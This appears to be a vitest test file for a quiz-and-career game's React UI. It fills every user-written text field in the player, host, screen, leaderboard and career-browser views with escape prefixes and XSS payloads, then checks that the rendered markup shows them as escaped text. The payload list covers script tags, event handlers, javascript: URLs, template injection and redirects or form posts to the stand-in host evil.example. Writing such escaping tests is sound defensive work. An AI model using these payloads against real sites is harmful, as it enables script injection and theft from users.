import type { Stage } from '@pathquest/core/rooms/views'
import { KIND_PIECES } from '@pathquest/kinds/registry/pieces'
import { prefetchChunk } from '@pathquest/ui/hooks/use-lazy-chunk'
import {
  sampleHostView,
  samplePlayerView,
  sampleQuestionStage,
  sampleResultStage,
  sampleScreenView,
} from '@pathquest/ui/testing/sample-views'
import type { ReactElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { beforeAll, expect, test } from 'vitest'
import { EMPTY_BROWSER_STATE } from './CareerBrowser/browser-state'
import { CareerBrowserView } from './CareerBrowser/CareerBrowserView'
import { GamePlayerView } from './GamePlayer/GamePlayerView'
import { GameScreenView } from './GameScreen/GameScreenView'
import { HostGameView } from './HostGame/HostGameView'
import { SharedLeaderboardView } from './Leaderboard/SharedLeaderboardView'
import { sampleCareerList } from './testing/sample-careers'
import { sampleLive, samplePodiumView, sampleSharedBoard } from './testing/sample-games'

/**
 * Payload prefixes that escape from the context of a text: an attribute, an element, a comment, a
 * script.
 */
const WAYS_OUT = ['', '"', "'", '>', '">', "'>", '-->', ']]>', '</title>', '</textarea></script>']
const HARM = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{background:url(//evil.example)}</style>',
  '<base href=//evil.example>',
  '<math><mtext></p><img src onerror=alert(1)>',
  ' onmouseover=alert(1) x="',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  'javascript:alert(1)//',
  '<<script>alert(1);//<</script>',
  '<script\n>alert(1)</script\t>',
  '<IMG SRC=`x` ONERROR=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<form action=//evil.example><button>x',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '=HYPERLINK("//evil.example","x")<b>',
]
/** All user-written texts: by people, an LMS or content. */
const WRITTEN = new Set([
  'careerTitle',
  'description',
  'displayName',
  'explanation',
  'name',
  'text',
  'title',
])

/** The same value with this text in every field. */
function withText<Value>(value: Value, text: string): Value {
  const changed = (one: unknown, key: string): unknown => {
    if (typeof one === 'string') return WRITTEN.has(key) ? text : one
    if (Array.isArray(one)) {
      // Options are keyed by their texts, so these must differ.
      const isTexts = key === 'options'
      return one.map((each, i) => (isTexts ? `${text}${i}` : changed(each, '')))
    }
    if (typeof one !== 'object' || one === null) return one
    // A stage, a mode and an industry are identified by their names.
    const isAlone = Object.keys(one).length === 1 && 'name' in one
    const isKeyedByName = 'question' in one || isAlone || 'count' in one
    return Object.fromEntries(
      Object.entries(one).map(([at, each]) => [
        at,
        isKeyedByName && at === 'name' ? each : changed(each, at),
      ]),
    )
  }
  return changed(value, '') as Value
}

const stages: Stage[] = [
  { name: 'lobby' },
  sampleQuestionStage,
  sampleResultStage,
  { name: 'podium' },
  { name: 'cancelled' },
]

/** Each widget in each of its states, with this in every text. */
function widgets(text: string): ReactElement[] {
  const games = stages.flatMap((stage) => [
    <GamePlayerView
      key={`player-${stage.name}`}
      state={withText(sampleLive(samplePlayerView(stage)), text)}
    />,
    <HostGameView
      key={`host-${stage.name}`}
      state={withText(sampleLive(sampleHostView(stage)), text)}
    />,
    <GameScreenView
      key={`screen-${stage.name}`}
      state={withText(sampleLive(sampleScreenView(stage)), text)}
    />,
  ])
  return [
    ...games,
    <GamePlayerView key="results" state={withText(sampleLive(samplePodiumView()), text)} />,
    <SharedLeaderboardView
      key="board"
      state={{ board: withText(sampleSharedBoard(), text), problem: null }}
      onRetry={() => {}}
    />,
    <CareerBrowserView
      key="careers"
      list={{ status: 'ready', data: withText(sampleCareerList(), text) }}
      detail={{ status: 'loading' }}
      state={EMPTY_BROWSER_STATE}
      onStateChange={() => {}}
    />,
  ]
}

beforeAll(() => prefetchChunk(KIND_PIECES.choice))

const SIGNS: Record<string, string> = {
  '&': '&amp;',
  '<': '&lt;',
  '>': '&gt;',
  '"': '&quot;',
  "'": '&#x27;',
}
const asText = (text: string) => text.replace(/[&<>"']/g, (sign) => SIGNS[sign] ?? sign)

const markup = (text: string) => widgets(text).map((one) => renderToStaticMarkup(one))

test.each(WAYS_OUT)('what follows %j is shown as text, in every widget and state', (out) => {
  // The first character of some names is drawn separately.
  const payload = `P${HARM.map((harm) => `${out}${harm}`).join(' ')}`
  const harmless = `P${'x'.repeat(payload.length - 1)}`
  const expected = markup(harmless)
  expect(expected.filter((html) => html.includes(harmless)).length).toBeGreaterThan(10)
  // The same elements and attributes, with one text in place of the other.
  expect(markup(payload)).toEqual(
    expected.map((html) => html.replaceAll(harmless, asText(payload))),
  )
})
